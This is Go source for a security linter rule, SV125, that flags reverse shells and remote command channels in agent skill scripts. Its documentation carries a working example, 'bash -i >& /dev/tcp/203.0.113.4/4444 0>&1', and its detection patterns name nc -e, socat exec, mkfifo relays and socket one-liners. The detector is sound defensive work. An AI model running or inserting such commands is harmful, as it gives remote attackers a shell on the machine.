package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellReverseShell reports commands that hand a shell to a remote host.
var ShellReverseShell = register(&analyzer.Rule{
	ID:       "SV125",
	Name:     "reverse-shell",
	Title:    "Reverse shell or remote command channel",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-506", "CWE-78"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds the classic ways to give a remote host an interactive shell on this machine:

- ` + "`/dev/tcp/host/port`" + ` or ` + "`/dev/udp/…`" + ` redirections (` + "`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`" + `);
- ` + "`nc -e /bin/sh`" + `, ` + "`ncat -e`" + `, ` + "`nc -c`" + `, a shell piped into ` + "`nc`" + ` or ` + "`nc`" + ` piped into a shell,
  ` + "`telnet … | sh`" + `, ` + "`mkfifo`" + ` relays through ` + "`nc`" + `;
- ` + "`socat exec:…`" + ` / ` + "`system:`" + ` with a TCP address;
- ` + "`python -c`" + `, ` + "`perl -e`" + `, ` + "`ruby -e`" + `, ` + "`php -r`" + ` one-liners that open a socket and spawn a shell
  (` + "`socket`" + ` with ` + "`pty.spawn`" + `, ` + "`dup2`" + `, ` + "`subprocess`" + `, ` + "`/bin/sh`" + `).

There is no legitimate reason for a skill to do this. **Critical.**

**Fix:** remove it. Use the agent's own tools for remote work.

Bad:

` + "```sh" + `
bash -i >& /dev/tcp/203.0.113.4/4444 0>&1
` + "```" + `

Good:

` + "```sh" + `
ssh deploy@build.example.com ./deploy.sh   # an explicit, authenticated session
` + "```",
	Run: shRunReverseShell,
})

var shDevTCPRx = match.MustRx(`/dev/(tcp|udp)/[^/\s]+/\d+`)
var shInlineSocketRx = match.MustRx(`(?i)socket|TCPSocket|fsockopen|IO::Socket|net\.Socket|net\.connect`)
var shInlineShellRx = match.MustRx(`(?i)pty\.spawn|dup2|subprocess|/bin/(ba)?sh|\bexec\b|spawn\(|popen|system\(|child_process|cmd\.exe`)

func shRunReverseShell(p *analyzer.Pass) error {
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		s := site.Script
		fifo := false
		for _, c := range s.Commands {
			if c.Name == "mkfifo" || c.Name == "mknod" && shellfacts.HasArg(c, "p") {
				fifo = true
			}
		}
		reported := map[int]bool{}
		for _, c := range s.Commands {
			why := shReverseShell(s, c, fifo)
			if why == "" || reported[c.Start] {
				continue
			}
			reported[c.Start] = true
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Message: "reverse shell: " + why + shellfacts.Where(site)})
		}
	})
}

func shReverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
	for _, r := range c.Redirs {
		if m := shDevTCPRx.FindString(r.Target.Value); m != "" {
			return "redirects " + c.Name + " through " + m
		}
	}
	for _, w := range c.Argv {
		if m := shDevTCPRx.FindString(w.Value); m != "" && c.Name != "echo" && c.Name != "grep" {
			return c.Name + " connects through " + m
		}
	}
	switch c.Name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for _, w := range c.Params() {
			v := w.Value
			if v == "-e" || v == "-c" || v == "--exec" || v == "--sh-exec" || v == "--lua-exec" ||
				len(v) > 2 && v[0] == '-' && v[1] != '-' && strings.ContainsAny(v[1:], "ec") && !strings.ContainsAny(v[1:], "z") {
				return c.Name + " " + v + " hands a program to the connection"
			}
		}
		if k := shellfacts.PipeSink(s, c); k != nil && shell.IsShell(k.Name) {
			return c.Name + " output is piped into " + k.Name
		}
		if c.PipePrev >= 0 && shell.IsShell(s.Commands[c.PipePrev].Name) {
			return "a shell is piped into " + c.Name
		}
		if fifo {
			return c.Name + " relays a named pipe (mkfifo) to a shell"
		}
	case "telnet", "openssl":
		if c.Name == "openssl" && c.Arg(1) != "s_client" {
			return ""
		}
		if k := shellfacts.PipeSink(s, c); k != nil && shell.IsShell(k.Name) {
			return c.Name + " output is piped into " + k.Name
		}
	case "socat":
		low := strings.ToLower(c.Text())
		if (strings.Contains(low, "exec:") || strings.Contains(low, "system:")) && (strings.Contains(low, "tcp") || strings.Contains(low, "udp") || strings.Contains(low, "openssl")) {
			return "socat connects a program to the network"
		}
	case "python", "python2", "python3", "perl", "ruby", "php", "node", "lua":
		for _, w := range c.Params() {
			if shInlineSocketRx.MatchString(w.Value) && shInlineShellRx.MatchString(w.Value) {
				return c.Name + " one-liner opens a socket and spawns a shell"
			}
		}
	}
	return ""
}
